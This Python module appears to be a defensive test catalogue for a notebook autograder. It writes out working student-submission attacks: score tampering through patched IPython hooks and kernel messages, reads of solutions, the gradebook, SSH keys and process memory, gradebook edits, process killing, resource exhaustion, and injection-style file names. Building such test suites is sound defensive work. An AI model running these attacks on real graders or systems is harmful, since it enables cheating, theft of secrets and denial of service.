"""Attacks: what a submission tries, and how it would show that it worked.

Every attacker's own answers are wrong, so an attack that earns points has tampered with a score. An attack on
anything else shows its success in one of the ways of `Shows`.
"""

from __future__ import annotations

import os
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from textwrap import dedent
from typing import Literal

from nbformat import NotebookNode
from nbformat.v4 import new_markdown_cell, new_output

Group = Literal[
    "score tampering",
    "secrets",
    "planting and destroying",
    "resources",
    "network",
    "notebook structure",
    "evidence forging",
    "feedback injection",
]

#: How success shows: in points; in an output (`CANARY` read, or `DONE` reached); in what stands outside afterwards;
#: in a grader that leaves the attacker ungraded, or that ends or hangs before the attacker's neighbours have marks;
#: in a feedback page with active content.
Shows = Literal["points", "output", "outside", "ungraded", "stopped", "page"]

#: Stands in everything that must not be read.
CANARY = "canary-5d0f2c"
#: An attack prints it once it has what it wants. Its source never holds it in one piece.
DONE = "reached-the-goal"
_DONE = 'print("reached-" + "the-goal")'
#: Part of the name of everything that an attack leaves behind.
TRACE = "oxboys-attack-trace"

WRONG = {
    "needs_multilevel": 'needs_multilevel = "no"',
    "intercept_variance_row": 'intercept_variance_row = "Scale"',
    "icc": "icc = 0.1",
}


@dataclass(frozen=True)
class Attack:
    """An attack, and how it would show that it worked.

    Attributes
    ----------
    name
        Also the student's folder.
    group
        What it is after.
    tries
        What it does, in a few words.
    shows
        How success shows.
    code
        Source of a cell of the student's own, at the top. @COURSE@, @HOME@, @PORT@, @PACKAGES@ and @TRACE@ stand for
        what an attacker may well know.
    answers
        Answers in place of wrong ones.
    change
        Changes the notebook.
    beside
        Puts files into the student's folder, besides the notebook or in its place.
    trace
        Path that it leaves behind, for "outside".
    """

    name: str
    group: Group
    tries: str
    shows: Shows
    code: str = ""
    answers: dict[str, str] = field(default_factory=dict)
    change: Callable[[NotebookNode], None] | None = None
    beside: Callable[[Path], None] | None = None
    trace: str = ""

    def __str__(self) -> str:
        return self.name


ATTACKS: list[Attack] = []


def _add(group: Group, name: str, tries: str, shows: Shows, code: str = "", **more: object) -> None:
    ATTACKS.append(Attack(name, group, tries, shows, dedent(code).strip(), **more))  # type: ignore[arg-type]


# ---- score tampering ------------------------------------------------------------------------------

_EQUAL = """
class Equal:
    def __eq__(self, other): return True
    def __hash__(self): return 0
"""
_add(
    "score tampering",
    "equal-to-all",
    "an answer that equals everything",
    "points",
    _EQUAL,
    answers={"needs_multilevel": "needs_multilevel = Equal()"},
)
_add(
    "score tampering",
    "ast-transformer",
    "takes every assertion out of later cells",
    "points",
    """
    import ast
    class Drop(ast.NodeTransformer):
        def visit_Assert(self, node): return ast.copy_location(ast.Pass(), node)
    get_ipython().ast_transformers.append(Drop())
    """,
)
_add(
    "score tampering",
    "input-transformer",
    "rewrites the source of later cells",
    "points",
    """
    get_ipython().input_transformers_post.append(lambda lines: [
        line.replace("assert ", "assert True or ").replace("check(", "(lambda key: 1.0)(") for line in lines])
    """,
)
_add(
    "score tampering",
    "transform-cell",
    "replaces every later cell by nothing",
    "points",
    "get_ipython().transform_cell = lambda raw_cell: 'pass'",
)
_add(
    "score tampering",
    "forged-displayhook",
    "shows full points as the value of every cell",
    "points",
    """
    hook = type(get_ipython().displayhook)
    hook.compute_format_data = lambda self, result: ({"text/plain": "1.0"}, {})
    """,
)
_add(
    "score tampering",
    "patched-send",
    "drops every error message on its way out, and tells of success",
    "points",
    """
    kind_of = type(get_ipython().kernel.session)
    send = kind_of.send
    def changed(self, stream, kind, *rest, **more):
        if kind == "execute_reply": rest[0]["status"] = "ok"
        return None if kind == "error" else send(self, stream, kind, *rest, **more)
    kind_of.send = changed
    """,
)
_add(
    "score tampering",
    "do-nothing",
    "answers every later cell with success, without running it",
    "points",
    """
    async def nothing(code, silent, *rest, **more):
        return {"status": "ok", "execution_count": 1, "payload": [], "user_expressions": {}}
    get_ipython().kernel.do_execute = nothing
    """,
)
_add(
    "score tampering",
    "swap-before-check",
    "changes the answer just before every later cell",
    "points",
    _EQUAL + "get_ipython().events.register('pre_run_cell', lambda info: get_ipython().user_ns.update("
    "needs_multilevel=Equal(), intercept_variance_row=Equal()))",
)
_add(
    "score tampering",
    "patched-library",
    "patches the library that a test compares with",
    "points",
    "import numpy; numpy.isclose = lambda *numbers, **more: True; numpy.abs = abs = lambda number: 0",
)
_STOCK = "\nimport numpy; numpy.isclose = lambda *numbers, **more: True\n"
_add(
    "score tampering",
    "own-check",
    "puts a function of its own in place of `check`",
    "points",
    "import oxboys_mlm\ncheck = oxboys_mlm.check = lambda key: 1.0" + _STOCK,
)
_add(
    "score tampering",
    "patched-questions",
    "makes every question find every answer right",
    "points",
    """
    from oxboys_mlm import questions
    from oxboys_mlm.assessment.verdict import Judgement
    for notebook in questions.NOTEBOOKS:
        for question in notebook.questions:
            type(question).judge = lambda self, *rest, **more: Judgement.right("")
    """
    + _STOCK.replace("\n", "\n    "),
)
_add(
    "score tampering",
    "patched-verdict",
    "gives every verdict full points",
    "points",
    """
    from oxboys_mlm.assessment.verdict import Verdict
    Verdict.score = property(lambda self: self.points)
    Verdict.__repr__ = lambda self: "1"
    """
    + _STOCK.replace("\n", "\n    "),
)
_add(
    "score tampering",
    "frame-walk",
    "looks for the key in every object that the kernel holds",
    "points",
    """
    import gc
    from oxboys_mlm.assessment.evidence import Text
    found = [thing.value for thing in gc.get_objects() if isinstance(thing, Text)]
    """
    + _STOCK.replace("\n", "\n    "),
    answers={"needs_multilevel": 'needs_multilevel = found[0] if found else "no"'},
)

# ---- secrets --------------------------------------------------------------------------------------


def _reads(name: str, tries: str, code: str) -> None:
    _add("secrets", name, tries, "output", code)


_TRY = """import glob, os
def show(path):
    try: print(open(path, 'rb').read()[:400_000])
    except OSError as problem: print(problem)
"""
_reads(
    "read-solutions",
    "reads the solutions",
    _TRY + "for path in glob.glob('@COURSE@/solutions/**/*.ipynb', recursive=True): show(path)",
)
_reads("read-gradebook", "reads the gradebook", _TRY + "show('@COURSE@/gradebook.db')")
_reads(
    "read-others",
    "reads another submission",
    _TRY + "for path in glob.glob('@COURSE@/submitted/honest*/**/*.ipynb', recursive=True): show(path)",
)
_reads("read-settings", "reads the course's settings", _TRY + "show('@COURSE@/nbgrader_config.py')")
_reads(
    "read-home",
    "reads a private key",
    _TRY + "show('@HOME@/.ssh/id_ed25519'); show(os.path.expanduser('~/.ssh/id_ed25519'))",
)
_reads("read-own-environment", "reads its environment", "import os; print(dict(os.environ))")
_reads(
    "read-environments",
    "reads the environment of every process in sight",
    _TRY + "for path in glob.glob('/proc/[0-9]*/environ'): show(path)",
)
_reads(
    "read-memory",
    "reads the memory of its parent",
    """
    import os, re
    def hunt(pid):
        with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb") as memory:
            for line in maps:
                spot = re.match("([0-9a-f]+)-([0-9a-f]+) rw.*(heap|stack)", line)
                if spot:
                    memory.seek(int(spot[1], 16))
                    part = memory.read(min(int(spot[2], 16) - int(spot[1], 16), 50_000_000))
                    for hit in re.finditer(b"OXBOYS_CANARY=[a-z0-9-]+", part):
                        print(hit[0].decode()); return
    for pid in {os.getppid(), 1}:
        try: hunt(pid)
        except OSError as problem: print(problem)
    """,
)
_reads(
    "read-open-files",
    "goes through the files that processes have open",
    _TRY
    + "for path in glob.glob('/proc/[0-9]*/cwd'):\n    for name in glob.glob(path + '/nbgrader_config.py'): show(name)",
)

# ---- planting and destroying ----------------------------------------------------------------------


def _leaves(name: str, tries: str, trace: str, code: str, **more: object) -> None:
    _add("planting and destroying", name, tries, "outside", code, trace=trace, **more)


def _writes(name: str, tries: str, trace: str) -> None:
    _leaves(
        name,
        tries,
        trace,
        f"import os\nos.makedirs(os.path.dirname('{trace}'), exist_ok=True)\nopen('{trace}', 'w').write('x = 1')",
    )


_writes("plant-solutions", "writes into the solutions", "@COURSE@/solutions/a/@TRACE@.ipynb")
_writes("plant-submission", "hands in for somebody else", "@COURSE@/submitted/honest-1/a/@TRACE@.ipynb")
_writes("plant-settings", "adds to the course's settings", "@COURSE@/@TRACE@_config.py")
_writes("plant-startup", "plants a start-up script for IPython", "@HOME@/.ipython/profile_default/startup/@TRACE@.py")
_writes("plant-login", "plants a login script", "@HOME@/.config/@TRACE@.sh")
_writes("plant-package", "plants a module beside the libraries", "@PACKAGES@/@TRACE@.py")
_writes("plant-cache", "plants a font cache", "@HOME@/.cache/matplotlib/@TRACE@.json")
_writes("plant-tmp", "leaves a file in /tmp for the next run", "/tmp/@TRACE@")
_writes("plant-shm", "leaves a file in shared memory for the next run", "/dev/shm/@TRACE@")
_leaves(
    "delete-submission",
    "deletes another submission",
    "@COURSE@/@TRACE@-deleted",
    """
    import shutil
    shutil.rmtree("@COURSE@/submitted/victim")
    open("@COURSE@/@TRACE@-deleted", "w").close()
    """,
)
_leaves(
    "edit-gradebook",
    "a detached process edits the gradebook a little later",
    "@COURSE@/@TRACE@-edited",
    """
    import os
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            import sqlite3, time
            time.sleep(3)
            with sqlite3.connect("@COURSE@/gradebook.db", timeout=20) as book:
                book.execute("update grade set manual_score = 100")
            open("@COURSE@/@TRACE@-edited", "w").close()
        os._exit(0)
    """,
)
_add(
    "planting and destroying",
    "detached-process",
    "leaves a process behind",
    "outside",
    """
    import os, time
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            time.sleep(2)
            open("@COURSE@/@TRACE@-detached", "w").close()
            time.sleep(100)
        os._exit(0)
    """,
    trace="@COURSE@/@TRACE@-detached",
)
_add(
    "planting and destroying",
    "unmask",
    "makes a namespace of its own to have rights in",
    "output",
    f"""
    import ctypes, os
    libc = ctypes.CDLL(None, use_errno=True)
    done, tell = os.pipe()
    if os.fork() == 0:
        os.write(tell, b"1" if libc.unshare(0x10000000 | 0x00020000) == 0 else b"0")
        os._exit(0)
    if os.read(done, 1) == b"1": {_DONE}
    """,
)
_add(
    "planting and destroying",
    "trace-parent",
    "takes control of the process above it",
    "output",
    f"""
    import ctypes, os
    libc = ctypes.CDLL(None, use_errno=True)
    libc.ptrace.argtypes = [ctypes.c_long] * 4
    above = os.getppid()
    if libc.ptrace(16, above, 0, 0) == 0:
        os.waitpid(above, 0x40000000)
        libc.ptrace(17, above, 0, 0)
        {_DONE}
    else: print(os.strerror(ctypes.get_errno()))
    """,
)
_add(
    "planting and destroying",
    "key-ring",
    "leaves a key in the kernel's key ring for the next run",
    "output",
    f"""
    import ctypes, os
    libc = ctypes.CDLL(None, use_errno=True)
    number = {{"x86_64": 248, "aarch64": 217}}[os.uname().machine]
    if libc.syscall(number, b"user", b"@TRACE@", b"x", 1, ctypes.c_int(-3)) > 0: {_DONE}
    else: print(os.strerror(ctypes.get_errno()))
    """,
)

# ---- resources ------------------------------------------------------------------------------------


def _takes(name: str, tries: str, code: str) -> None:
    _add("resources", name, tries, "output", code)


_takes("memory", "takes 1 GB of memory", f"hold = [bytearray(b'x') * (1 << 20) for _ in range(1000)]\n{_DONE}")
_takes(
    "memory-of-many",
    "takes 1 GB of memory in ten processes",
    f"""
    import os, time
    done, tell = os.pipe()
    for _ in range(10):
        if os.fork() == 0:
            hold = b"x" * (100 << 20)
            os.write(tell, b"1")
            time.sleep(4)
            os._exit(0)
    count = 0
    while count < 10: count += len(os.read(done, 10))
    time.sleep(1.5)
    {_DONE}
    """,
)
_takes(
    "memory-file",
    "takes 1 GB of memory that belongs to no process",
    f"""
    import os
    block = b"x" * (10 << 20)
    for _ in range(20):
        file = os.memfd_create("x")
        for _ in range(5): os.write(file, block)
    {_DONE}
    """,
)
_takes(
    "system-v-memory",
    "takes 1 GB of shared memory and lets go of it unreleased",
    f"""
    import ctypes, os
    libc = ctypes.CDLL(None, use_errno=True)
    libc.shmat.restype = ctypes.c_void_p
    made = []
    for _ in range(5):
        made.append(libc.shmget(0, 200 << 20, 0o1600))
        if made[-1] < 0: raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
        place = libc.shmat(made[-1], None, 0)
        ctypes.memset(place, 1, 200 << 20)
        libc.shmdt(ctypes.c_void_p(place))
    {_DONE}
    for number in made: libc.shmctl(number, 0, None)
    """,
)
_takes(
    "disk",
    "writes 400 MB to disk",
    f"""
    import os
    try:
        for number in range(8):
            with open(f"/tmp/@TRACE@-{{number}}", "wb") as file:
                for _ in range(50): file.write(b"x" * (1 << 20))
        {_DONE}
    finally:
        for number in range(8):
            try: os.unlink(f"/tmp/@TRACE@-{{number}}")
            except OSError: pass
    """,
)
_takes(
    "processes",
    "starts 150 processes",
    f"""
    import os, time
    for _ in range(150):
        if os.fork() == 0:
            time.sleep(3)
            os._exit(0)
    {_DONE}
    """,
)
_takes(
    "threads",
    "starts 400 threads",
    f"""
    import threading, time
    for _ in range(400): threading.Thread(target=time.sleep, args=(3,), daemon=True).start()
    {_DONE}
    """,
)
_takes("output-lines", "prints 30 MB, line by line", f"for _ in range(300): print('x' * 100_000, flush=True)\n{_DONE}")
_takes("output-string", "shows 30 MB at once", f"print('x' * 30_000_000)\n{_DONE}")
_takes(
    "output-elsewhere",
    "sends 60 MB of messages that belong to no cell",
    f"""
    kernel = get_ipython().kernel
    content = {{"name": "stdout", "text": "x" * 5_000_000}}
    for _ in range(12): kernel.session.send(kernel.iopub_socket, "stream", content, parent={{}})
    {_DONE}
    """,
)
_takes(
    "endless",
    "takes more time than a cell may",
    f"import time\nstart = time.time()\nwhile time.time() < start + 7: pass\n{_DONE}",
)
_takes(
    "uninterruptible",
    "takes time and does not let itself be interrupted",
    f"""
    import time
    start = time.time()
    while time.time() < start + 12:
        try: time.sleep(0.1)
        except BaseException: pass
    {_DONE}
    """,
)
_takes(
    "asleep",
    "sleeps in code that is not Python's, and hears no signal",
    "import ctypes, signal\nsignal.pthread_sigmask(signal.SIG_BLOCK, [signal.SIGINT])\n"
    f"ctypes.PyDLL(None).sleep(12)\n{_DONE}",
)


def _dies(name: str, tries: str, code: str) -> None:
    _add("resources", name, tries, "ungraded", code)


_dies("exit", "ends the kernel", "import os; os._exit(0)")
_dies("crash", "crashes the kernel", "import ctypes; ctypes.string_at(0)")
_dies("kill-self", "kills the kernel", "import os; os.kill(os.getpid(), 9)")
_add("resources", "kill-all", "kills every process that it may", "stopped", "import os; os.kill(-1, 9)")
_add(
    "resources",
    "kill-parent",
    "kills the process above it",
    "stopped",
    "import os, time; os.kill(os.getppid(), 9); time.sleep(1)",
)
_add(
    "resources",
    "stop-parent",
    "stops the process above it",
    "stopped",
    "import os, time; os.kill(os.getppid(), 19); time.sleep(1)",
)

# ---- resources that belong to no process --------------------------------------------------------

_LIBC = """
import ctypes, os, time
libc = ctypes.CDLL(None, use_errno=True)
libc.mmap.restype = ctypes.c_void_p
def must(given):
    number = ctypes.get_errno()
    if given is None or ctypes.c_long(given).value < 0: raise OSError(number, os.strerror(number))
    return given
def map(size, flags):
    return must(libc.mmap(None, ctypes.c_size_t(size), 3, flags, -1, ctypes.c_long(0)))
def fill(size, flags, advice):
    place = map(size, flags)
    ctypes.memset(place, 1, size)
    must(libc.madvise(ctypes.c_void_p(place), ctypes.c_size_t(size), advice))
"""
_CALL = 'number = lambda x86, arm: {"x86_64": x86, "aarch64": arm}[os.uname().machine]\n'


def _exhausts(name: str, tries: str, code: str) -> None:
    _takes(name, tries, f"{_LIBC}\n{_CALL}\n{dedent(code)}\n{_DONE}")


_exhausts("shared-memory", "hides shared memory from its page tables", "for _ in range(10): fill(100 << 20, 0x21, 4)")
_exhausts(
    "zero-device",
    "makes shared memory of /dev/zero",
    "import mmap\nheld = [mmap.mmap(os.open('/dev/zero', os.O_RDWR), 100 << 20) for _ in range(10)]\n"
    "for block in held: block.write(bytes(1)); block.madvise(mmap.MADV_DONTNEED)",
)
_exhausts("paged-out", "sends its memory to swap", "for _ in range(10): fill(100 << 20, 0x22, 21)")
_exhausts(
    "socket-buffers",
    "fills the buffers of 5000 sockets with nothing",
    """
    import socket
    done, tell = os.pipe()
    for _ in range(25):
        if os.fork() == 0:
            held = []
            for _ in range(100):
                pair = socket.socketpair()
                held += pair
                for end in pair:
                    end.setblocking(False)
                    try:
                        while True: end.send(bytes(1 << 16))
                    except BlockingIOError: pass
            os.write(tell, b"1")
            time.sleep(9)
            os._exit(0)
    count = 0
    while count < 25: count += len(os.read(done, 25))
    time.sleep(1.5)
    """,
)
_exhausts(
    "socket-buffer-sizes",
    "makes the buffers of its sockets larger",
    "import socket\nfor kind in (socket.SO_SNDBUF, socket.SO_RCVBUF): "
    "socket.socket().setsockopt(socket.SOL_SOCKET, kind, 1 << 22)",
)
_exhausts(
    "pipe-pages",
    "lends pages to pipes and lets go of them",
    """
    class Part(ctypes.Structure): _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]
    for _ in range(20):
        place = map(2 << 20, 0x22)
        ctypes.memset(place, 1, 2 << 20)
        part = Part(place, 4096)
        must(libc.vmsplice(os.pipe()[1], ctypes.byref(part), ctypes.c_size_t(1), 0))
        libc.munmap(ctypes.c_void_p(place), ctypes.c_size_t(2 << 20))
    """,
)
_exhausts("terminals", "opens 100 pseudo-terminals", "held = [os.openpty() for _ in range(100)]")
_exhausts(
    "event-polls",
    "takes entries of event polls, which a user has so many of",
    "import select\nheld = [select.epoll() for _ in range(100)]\nfor poll in held: poll.register(os.pipe()[0])",
)
_exhausts("watches", "takes 100 watches of files", "for _ in range(100): must(libc.inotify_init1(0))")
_exhausts("watch-groups", "takes a group of watches of another kind", "must(libc.syscall(number(300, 262), 0x200, 0))")
_exhausts(
    "asynchronous-slots",
    "takes slots of asynchronous input and output, of which the machine has so many",
    "held = ctypes.c_ulong(0)\nmust(libc.syscall(number(206, 0), 10_000, ctypes.byref(held)))",
)
_exhausts(
    "open-files",
    "opens 300 files in each of 60 processes",
    """
    done, tell = os.pipe()
    for _ in range(60):
        if os.fork() == 0:
            held = [os.open("/dev/null", os.O_RDONLY) for _ in range(300)]
            os.write(tell, b"1")
            time.sleep(3)
            os._exit(0)
    os.close(tell)
    count = 0
    while count < 60:
        part = os.read(done, 60)
        if not part: raise OSError("not all")
        count += len(part)
    """,
)
_exhausts(
    "pending-signals",
    "lets 5000 signals wait",
    """
    import signal
    done, tell = os.pipe()
    if os.fork() == 0:
        try:
            signal.pthread_sigmask(signal.SIG_BLOCK, [signal.SIGRTMIN])
            for _ in range(5000): must(libc.sigqueue(os.getpid(), signal.SIGRTMIN, None))
            os.write(tell, b"1")
        finally: os._exit(0)
    os.close(tell)
    if not os.read(done, 1): raise OSError("refused")
    """,
)

# ---- parser cost: outputs that cost more than their size ------------------------------------------

#: Cells by name. Each shows or sends something that is small and costs much to parse, hold or write. `send` sends a
#: message of a kind with any content, as if it belonged to the cell.
COSTLY = {
    "objects": """send("display_data", b'{"data": {"a/json": [' + b"{}," * 1_500_000 + b'{}]}, "metadata": {}}')""",
    "lists in lists": (
        """send("display_data", b'{"data": {"text/plain": "x", "application/json": ['"""
        """ + (b"[" * 40 + b"]" * 40 + b",") * 50_000 + b'0]}, "metadata": {}}')"""
    ),
    "kinds of one output": (
        """send("display_data", b'{"data": {"text/plain": "x"' + b"".join(b',"a/%d": 1' % i for i in range(300_000))"""
        """ + b'}, "metadata": {}}')"""
    ),
    "metadata": """send("display_data", b'{"data": {}, "metadata": {"image/png": [' + b"{}," * 1_500_000 + b'{}]}}')""",
    "one long line": "print('x' * 2_000_000)",
    "many long lines": "for _ in range(40): print('x' * 1_000_000)",
    "one line written over": r"print('x\r' * 1_000_000)",
    "returns": r"print('\r' * 2_000_000)",
    "empty lines": r"print('\n' * 4_000_000)",
    "other line ends": r"print('\x1c\u2028' * 1_000_000)",
    "traceback lines": (
        """send("error", b'{"ename": "E", "evalue": "", "traceback": [' + b'"",' * 1_500_000 + b'""]}')"""
    ),
    "wide characters": r"print('\U0001f600' * 1_200_000)",
    "escapes": r"""send("stream", b'{"name": "stdout", "text": "' + b"\\u0001" * 700_000 + b'"}')""",
    "backslashes and half a character": (
        r"""send("stream", b'{"name": "stdout", "text": "' + b"\\\\" * 1_200_000 + b'\\ud800"}')"""
    ),
    "one output shown a thousand times": (
        "from IPython.display import display, update_display\n"
        "for _ in range(1000): display('x', display_id='a')\n"
        "for _ in range(3): update_display('x' * 1_000_000, display_id='a')"
    ),
    "short messages": """for _ in range(60_000): send("stream", b'{"name": "stdout", "text": "x"}')""",
    "outputs": """for _ in range(20_000): send("display_data", b'{"data": {"text/plain": "x"}, "metadata": {}}')""",
    "parts of a message": (
        r"""kernel.iopub_socket.run.sendall((4_000_012).to_bytes(4, "big") + b"\x92\xa5iopub\xdd\x00\x1e\x84\x7f" """
        r"""+ b"\xc4\x00" * 2_000_000)"""
    ),
    "a very long message": """send("stream", b'{"name": "stdout", "text": "' + b"x" * 60_000_000 + b'"}')""",
    "a very long error": "raise ValueError('x' * 20_000_000)",
    "a very long number": (
        """send("execute_result", b'{"data": {}, "metadata": {}, "execution_count": ' + b"9" * 4_000_000 + b"}")"""
    ),
    "deep nesting": (
        """send("display_data", b'{"data": {"a": ' + b"[" * 2_000_000 + b"]" * 2_000_000 + b'}, "metadata": {}}')"""
    ),
}

# ---- pages: texts that cost more than their size, or take what is the page's own --------------------

#: Kind and source of texts by name. Each costs much to lay out, or becomes much.
TEXTS: dict[str, tuple[Literal["markdown", "html", "code"], str]] = {
    "blanks between letters": ("markdown", "a" + " " * 90_000 + "b"),
    "blanks, too many": ("markdown", "a" + " " * 300_000 + "b"),
    "blanks at ends of lines": ("markdown", ("a" + " " * 300 + "\n") * 300),
    "environments without end": ("markdown", "\\begin{a}" * 10_000),
    "more environments": ("markdown", "\\begin{a}" * 40_000),
    "dollars": ("markdown", "$" * 90_000),
    "dollars and letters": ("markdown", "$a " * 30_000),
    "brackets": ("markdown", "[" * 90_000),
    "links without end": ("markdown", "[a](" * 20_000),
    "pictures without end": ("markdown", "![" * 45_000),
    "stars": ("markdown", "*a_" * 30_000),
    "backticks": ("markdown", "".join("`" * n + "a" for n in range(400))),
    "quotes in quotes": ("markdown", ">" * 90_000),
    "lists in lists": ("markdown", "\n".join("  " * n + "- a" for n in range(400))),
    "tables": ("markdown", "|a" * 20_000 + "|\n" + "|-" * 20_000 + "|\n"),
    "link definitions": ("markdown", "\n".join(f"[{n}]: <" for n in range(9_000))),
    "comments without end": ("markdown", "<!--" * 20_000),
    "tags without end": ("markdown", "<a " * 30_000),
    "elements in elements": ("markdown", "<div>" * 18_000),
    "more elements": ("markdown", "<div>" * 300_000),
    "tags opened again": ("html", "".join(f"<b title={n}><p>" for n in range(5_000))),
    "tags opened in cells": ("html", "<table>" + "".join(f"<td><i title={n}>" for n in range(4_000))),
    "tables in tables": ("html", "<table><td>" * 8_000),
    "attributes": ("html", "<p " + " ".join(f"a{n}=1" for n in range(15_000)) + ">x"),
    "entities": ("html", "&lt;" * 24_000),
    "formulas": ("markdown", "$\\frac{1}{2}$ " * 7_000),
    "formula in itself": ("markdown", "$" + "{" * 900 + "}" * 900 + "$\n\n" + "$" + "\\sqrt{" * 120 + "}" * 120 + "$"),
    "dots": ("code", "a." * 45_000),
    "strings": ("code", "f'{" * 30_000),
    "parentheses": ("code", "(" * 90_000),
    "code without end": ("code", "x = 1\n" * 700_000),
    "code in a text": ("markdown", "```python\n" + "a." * 45_000 + "\n```"),
}

# ---- names: of folders that a submission brings ---------------------------------------------------

#: Names that a student's folder may have, each of which could be taken for something else.
NAMES = [
    "x" * 245,
    "ö" * 120,
    "💥" * 50,
    "t.json",
    "t.ipynb",
    "2-null-model.json",
    "gradebook.db",
    "receipts",
    "scores.csv",
    "-rf",
    "--course",
    "=1+1",
    "a b",
    " a",
    "a ",
    "~",
    "$HOME",
    "`id`",
    "{x}",
    "{{ x }}",
    "%s",
    "%(name)s",
    "*",
    "?",
    "[a]",
    "[bold]a",
    "a+b",
    "a'b",
    'a"b',
    "'; drop table student; --",
    "<b>a",
    "&lt;",
    "a\\b",
    "a:b",
    "a;b",
    "CON",
    "None",
    "0",
]
#: Names that nbgrader cannot hold, what is shown in their place, and a part of the reason.
UNHELD_NAMES = [
    (b"M\xfcller", "M\\xfcller", "is not UTF-8"),
    (b"\xff\xfe", "\\xff\\xfe", "is not UTF-8"),
    (b"a\xed\xb3\xbcb", "a\\xed\\xb3\\xbcb", "is not UTF-8"),
    (b"two\nlines", "two\\nlines", "control character"),
    (b"a\tb", "a\\tb", "control character"),
    (b"bell\x07", "bell\\x07", "control character"),
    (b"\x1b[2Ja", "\\x1b[2Ja", "control character"),
    ("line\u2028end".encode(), "line\\u2028end", "control character"),
    ("next\x85line".encode(), "next\\x85line", "control character"),
]

# ---- network --------------------------------------------------------------------------------------


def _calls(name: str, tries: str, code: str) -> None:
    _add("network", name, tries, "output", "import socket\n" + dedent(code))


_calls(
    "tcp",
    "connects to a service of this machine",
    f"with socket.create_connection(('127.0.0.1', @PORT@), 2) as line:\n    if line.recv(5): {_DONE}",
)
_calls(
    "udp",
    "asks a service of this machine by datagram",
    f"""
    line = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    line.settimeout(2)
    line.sendto(b"hello", ("127.0.0.1", @PORT@))
    if line.recv(5): {_DONE}
    """,
)
_calls(
    "abstract-socket",
    "connects to a socket without a path",
    f"""
    line = socket.socket(socket.AF_UNIX)
    line.settimeout(2)
    line.connect(chr(0) + "@TRACE@-@PORT@")
    if line.recv(5): {_DONE}
    """,
)
_calls(
    "path-socket",
    "connects to a socket in the home folder",
    f"line = socket.socket(socket.AF_UNIX)\nline.settimeout(2)\nline.connect('@HOME@/s')\nif line.recv(5): {_DONE}",
)
_calls(
    "listen",
    "listens where this machine can be reached from outside",
    f"""
    line = socket.create_server(("0.0.0.0", 0))
    if len(socket.if_nameindex()) > 1: {_DONE}
    """,
)
_calls(
    "packet-socket",
    "listens to all traffic of this machine (as root)",
    f"socket.socket(socket.AF_PACKET, socket.SOCK_RAW)\n{_DONE}",
)

# ---- notebook structure ---------------------------------------------------------------------------


def _named(notebook: NotebookNode, name: str) -> NotebookNode:
    return next(cell for cell in notebook.cells if cell.metadata.get("nbgrader", {}).get("grade_id") == name)


def _checks(notebook: NotebookNode) -> list[NotebookNode]:
    return [cell for cell in notebook.cells if cell.metadata.get("nbgrader", {}).get("grade_id", "").endswith("-check")]


def _skip(notebook: NotebookNode) -> None:
    for cell in _checks(notebook):
        cell.metadata["tags"] = ["skip-execution"]
        cell.outputs = [new_output("execute_result", {"text/plain": "1.0"}, execution_count=1)]


def _copy(notebook: NotebookNode) -> None:
    copied = NotebookNode(_named(notebook, "icc-check"))
    copied.id = "copied"
    notebook.cells.append(copied)


def _schema(notebook: NotebookNode) -> None:
    for cell in notebook.cells:
        if "nbgrader" in cell.metadata:
            cell.metadata["nbgrader"]["schema_version"] = 99


_add("notebook structure", "skip-execution", "tags check cells so that they are not run", "points", change=_skip)
_add("notebook structure", "copied-check", "has a check cell twice", "stopped", change=_copy)
_add("notebook structure", "future-schema", "claims a form of nbgrader's settings to come", "stopped", change=_schema)


def _files(**content: str) -> Callable[[Path], None]:
    def put(folder: Path) -> None:
        for name, text in content.items():
            (folder / f"{name}.py").write_text(text)

    return put


_add(
    "notebook structure",
    "shadowed-library",
    "brings a module that is called like a library",
    "points",
    beside=_files(numpy="def isclose(*numbers, **more): return True"),
)


def _fifo(folder: Path) -> None:
    (folder / "t.ipynb").unlink()
    os.mkfifo(folder / "t.ipynb")


def _link(folder: Path) -> None:
    (folder / "t.ipynb").unlink()
    (folder / "t.ipynb").symlink_to("../../honest-1/a/t.ipynb")


def _folder_link(folder: Path) -> None:
    (folder / "t.ipynb").unlink()
    folder.rmdir()
    folder.symlink_to("../honest-1/a")


def _file(content: str) -> Callable[[Path], None]:
    def put(folder: Path) -> None:
        (folder / "t.ipynb").write_text(content)

    return put


_add("notebook structure", "pipe", "hands in a pipe, which nobody ever writes to", "stopped", beside=_fifo)
_add("notebook structure", "link", "hands in a link to a neighbour's notebook", "points", beside=_link)
_add("notebook structure", "folder-link", "hands in a link to a neighbour's folder", "points", beside=_folder_link)
_add(
    "notebook structure",
    "deep-json",
    "hands in a file that is nested very deeply",
    "ungraded",
    beside=_file("[" * 200_000),
)
_add(
    "notebook structure",
    "huge-number",
    "hands in a number of many digits",
    "ungraded",
    beside=_file('{"cells": [], "nbformat": ' + "9" * 50_000 + "}"),
)

# ---- evidence forging -----------------------------------------------------------------------------

_FORGE = """
import json
hook = type(get_ipython().displayhook)
def record(evidence, **more):
    key = get_ipython().user_ns["In"][-1].split('"')[1]
    return json.dumps({"question": key, "evidence": evidence, **more})
def bundle(self, result):
    try: document = claim()
    except Exception: document = "{}"
    return {"text/plain": "1.0", "text/html": "<b>Right</b>", "application/vnd.oxboys.evidence+json": document}, {}
hook.compute_format_data = bundle
"""


def _forges(name: str, tries: str, claim: str, more: str = "") -> None:
    _add("evidence forging", name, tries, "points", _FORGE + f"claim = lambda: {claim}\n" + dedent(more))


_forges(
    "claim-score", "adds a score to the record", 'record({"kind": "text", "value": "no"}, score=1.0, status="right")'
)
_forges("claim-status", "adds a score to the evidence", 'record({"kind": "text", "value": "no", "share": 1.0})')
_forges(
    "claim-all-options",
    "claims every option at once",
    'record({"kind": "names", "values": ["yes", "no", "Group Var", "Scale"]})',
)
_forges("claim-kind", "claims a kind of evidence that there is not", 'record({"kind": "recorded", "value": 1})')
_forges("claim-true", "claims that the number is true", 'record({"kind": "number", "value": True})')
_forges(
    "claim-infinity",
    "claims a number beyond all numbers",
    'record({"kind": "number", "value": 0}).replace(": 0", ": 1e999")',
)
_forges("claim-nan", "claims a number that equals none", 'record({"kind": "number", "value": float("nan")})')
_forges("claim-huge", "claims a megabyte", 'record({"kind": "text", "value": "yes" * 400_000})')
